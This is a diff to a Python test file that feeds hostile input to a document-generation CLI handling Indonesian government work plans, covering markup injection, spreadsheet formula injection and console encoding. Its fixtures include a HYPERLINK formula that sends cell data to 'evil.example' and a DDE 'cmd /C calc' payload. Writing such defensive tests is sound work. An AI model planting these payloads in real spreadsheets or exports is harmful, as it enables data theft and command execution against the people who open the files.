@@ -14,8 +14,8 @@ from openpyxl import load_workbook
 from tests.conftest import REPO
 from tests.hostile.conftest import MOU, RENJA, assert_clean_failure, state_of
 
-MARKUP = ["[/bold] rapat", "Biro [/] Organisasi", "UPTD Puskesmas [rawat inap] Oesapa", "[/b] Dinas A",
-          "[red]merah[/red] [link=http://x]x[/link]"]
+# The counterpart's org in the example work plan (the MoU names the same org).
+SECOND_ORG = "org: Pemerintah Provinsi Nusa Tenggara Timur\n    kind: pemda\n    unit:"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Buka")'
 
 
@@ -23,7 +23,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Buka")'
 def marked(example, edit):
     """The example with markup in an org, a title and a unit."""
     renja = example / "agreements" / f"{RENJA}.yaml"
-    edit(renja, "org: Biro Organisasi Sekretariat", "org: Biro [/] Organisasi [rawat inap] Sekretariat")
+    edit(renja, SECOND_ORG, SECOND_ORG.replace("org: Pemerintah Provinsi Nusa Tenggara Timur",
+                                               "org: Biro [/] Organisasi [rawat inap] Sekretariat"))
+    edit(renja, "unit: Biro Organisasi Sekretariat", "unit: Biro [/] Organisasi [rawat inap] Sekretariat")
     edit(renja, "title: Rapat koordinasi triwulan I,", "title: \"[/bold] rapat koordinasi\",")
     return example
 
@@ -64,8 +66,9 @@ def test_markup_in_certificates(example, cli):
     assert run.exit_code == 0, run.stderr
     for name in names:
         assert name in run.stdout
-    for seq, name in enumerate(names, 1):
-        run = cli(example, "certificate", "verify", f"{seq:04d}/PHG/PW24/2022")
+    run = cli(example, "certificate", "issue", "results/k-2022.csv", "--signed-on", "2023-01-05", "--json")
+    for name, entry in zip(names, run.json()["issued"], strict=True):
+        run = cli(example, "certificate", "verify", entry["number"])
         assert run.exit_code == 0, run.stderr
         assert f"recipient  {name}" in run.stdout
 
@@ -96,8 +99,8 @@ def test_error_lines_are_one_line_of_readable_length(example, cli, edit):
 def test_formula_injection_in_the_workbook(example, cli, edit, tmp_path):
     renja = example / "agreements" / f"{RENJA}.yaml"
     edit(renja, "title: Rapat koordinasi triwulan I,", f"title: '{FORMULA}',")
-    edit(renja, "org: Biro Organisasi Sekretariat Daerah Provinsi Nusa Tenggara Timur",
-         "org: \"=1+1 Biro Organisasi\"")
+    edit(renja, SECOND_ORG, SECOND_ORG.replace("org: Pemerintah Provinsi Nusa Tenggara Timur",
+                                               "org: \"=1+1 Biro Organisasi\""))
     edit(example / "docgen.toml", 'name = "Ombudsman', 'name = "=cmd|\' /C calc\'!A0 Ombudsman')
     target = tmp_path / "m.xlsx"
     run = cli(example, "monitor", "--as-of", "2022-05-01", "--xlsx", str(target))
@@ -121,8 +124,8 @@ def _docgen(ws, *args, encoding="cp1252"):
 
 def test_cp1252_console(example, edit):
     renja = example / "agreements" / f"{RENJA}.yaml"
-    edit(renja, "org: Biro Organisasi Sekretariat Daerah Provinsi Nusa Tenggara Timur",
-         "org: Biro Ωrganisasi ₐ")
+    edit(renja, SECOND_ORG, SECOND_ORG.replace("org: Pemerintah Provinsi Nusa Tenggara Timur",
+                                               "org: Biro Ωrganisasi ₐ"))
     result = _docgen(example, "agreement", "list", "--json", "--as-of", "2022-05-01")
     assert result.returncode == 0, result.stderr
     rows = json.loads(result.stdout.decode("cp1252"))
